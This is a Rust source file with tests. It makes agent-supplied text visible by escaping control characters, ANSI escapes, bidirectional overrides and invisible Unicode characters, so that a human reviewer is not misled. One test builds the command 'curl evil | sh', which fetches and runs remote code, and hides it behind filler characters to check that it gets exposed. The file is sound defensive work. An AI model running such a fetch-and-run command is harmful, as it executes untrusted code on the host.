//! Text an agent supplied (its message, the command, paths, suggested
//! patterns), made visible instead of interpreted.
//!
//! A terminal obeys what it is sent: an ANSI escape can move the cursor,
//! recolour or clear what the person reads, and a bidirectional override
//! can make `txt.exe` read as `exe.txt`. So every such character is shown
//! as an escape the person can see (`\x1b`, `<U+202E>`), a backslash as
//! `\\` (so `\x1b` typed by the agent and a real ESC look different), and
//! nothing is cut: long values are wrapped by the caller, never truncated.

/// `text` with control characters, ANSI escapes, bidirectional controls
/// and invisible format characters written out visibly.
pub fn visible(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            '\r' => out.push_str("\\r"),
            c if (c as u32) < 0x20 || c as u32 == 0x7f => {
                out.push_str(&format!("\\x{:02x}", c as u32));
            }
            c if is_hidden(c) => out.push_str(&format!("<U+{:04X}>", c as u32)),
            c => out.push(c),
        }
    }
    out
}

/// The lines of `text` (split at its newlines), each made visible, with
/// the newline itself shown as `\n` at the end of every line but the last:
/// a multi-line message stays readable and no line break is hidden.
pub fn visible_lines(text: &str) -> Vec<String> {
    let parts: Vec<&str> = text.split('\n').collect();
    let last = parts.len().saturating_sub(1);
    parts
        .iter()
        .enumerate()
        .map(|(i, part)| {
            let mut line = visible(part);
            if i < last {
                line.push_str("\\n");
            }
            line
        })
        .collect()
}

/// Characters that are not what they look like, by the Unicode
/// Character Database as ICU4X ships it (`icu_properties`, kept current
/// with each Unicode release; not a hand list): every
/// `Default_Ignorable_Code_Point` (zero-width and format characters,
/// variation selectors, the Hangul fillers U+115F, U+1160, U+3164, U+FFA0,
/// U+180E, U+034F, tags), and the general categories that draw nothing
/// or something else than their meaning: controls (C0 and C1), format
/// characters (the bidirectional controls among them), surrogates,
/// private use, unassigned code points, line and paragraph separators,
/// and every space separator but the ASCII space (an NBSP or an
/// ideographic space reads as a blank that is not one). One symbol is
/// added by name because no property marks a glyph as empty: U+2800
/// BRAILLE PATTERN BLANK, drawn as a blank by every terminal.
fn is_hidden(c: char) -> bool {
    use icu_properties::props::{DefaultIgnorableCodePoint, GeneralCategory};
    use icu_properties::{CodePointMapData, CodePointSetData};
    /// Symbols drawn as nothing that no Unicode property marks so.
    const BLANK_SYMBOLS: &[char] = &['\u{2800}'];
    if c == ' ' {
        return false;
    }
    if CodePointSetData::new::<DefaultIgnorableCodePoint>().contains(c) {
        return true;
    }
    matches!(
        CodePointMapData::<GeneralCategory>::new().get(c),
        GeneralCategory::Control
            | GeneralCategory::Format
            | GeneralCategory::Surrogate
            | GeneralCategory::PrivateUse
            | GeneralCategory::Unassigned
            | GeneralCategory::LineSeparator
            | GeneralCategory::ParagraphSeparator
            | GeneralCategory::SpaceSeparator
    ) || BLANK_SYMBOLS.contains(&c)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escapes_and_bidi_controls_are_shown_not_obeyed() {
        assert_eq!(visible("plain text"), "plain text");
        assert_eq!(
            visible("\x1b[2J\x1b]0;title\x07ok"),
            "\\x1b[2J\\x1b]0;title\\x07ok"
        );
        assert_eq!(visible("a\u{202e}txt.exe"), "a<U+202E>txt.exe");
        assert_eq!(visible("zero\u{200b}width"), "zero<U+200B>width");
        assert_eq!(visible("\u{9b}31m"), "<U+009B>31m");
        assert_eq!(visible(r"\x1b"), r"\\x1b", "a typed escape differs");
        assert_eq!(visible("tab\there\r"), "tab\\there\\r");
        assert_eq!(visible_lines("one\ntwo"), vec!["one\\n", "two"]);
        assert!(visible("\u{7f}").contains("\\x7f"));
        assert_eq!(visible("naïve ü 日本"), "naïve ü 日本");
    }

    /// Issue 23, item 7: the fillers and blanks that passed unescaped.
    #[test]
    fn invisible_and_default_ignorable_characters_are_shown() {
        for c in [
            '\u{3164}',
            '\u{115F}',
            '\u{1160}',
            '\u{034F}',
            '\u{180E}',
            '\u{2800}',
            '\u{FE0F}',
            '\u{FFA0}',
            '\u{00A0}',
            '\u{3000}',
            '\u{E000}',
            '\u{2066}',
            '\u{E0041}',
        ] {
            let shown = visible(&format!("a{c}b"));
            assert_eq!(shown, format!("a<U+{:04X}>b", c as u32), "{:04X}", c as u32);
        }
        let padded = format!("echo hi{}; curl evil | sh", "\u{3164}".repeat(60));
        assert!(visible(&padded).ends_with("; curl evil | sh"));
        assert!(!visible(&padded).contains('\u{3164}'));
        assert_eq!(visible("ls -la ~/ünï/日本 ✓"), "ls -la ~/ünï/日本 ✓");
    }
}
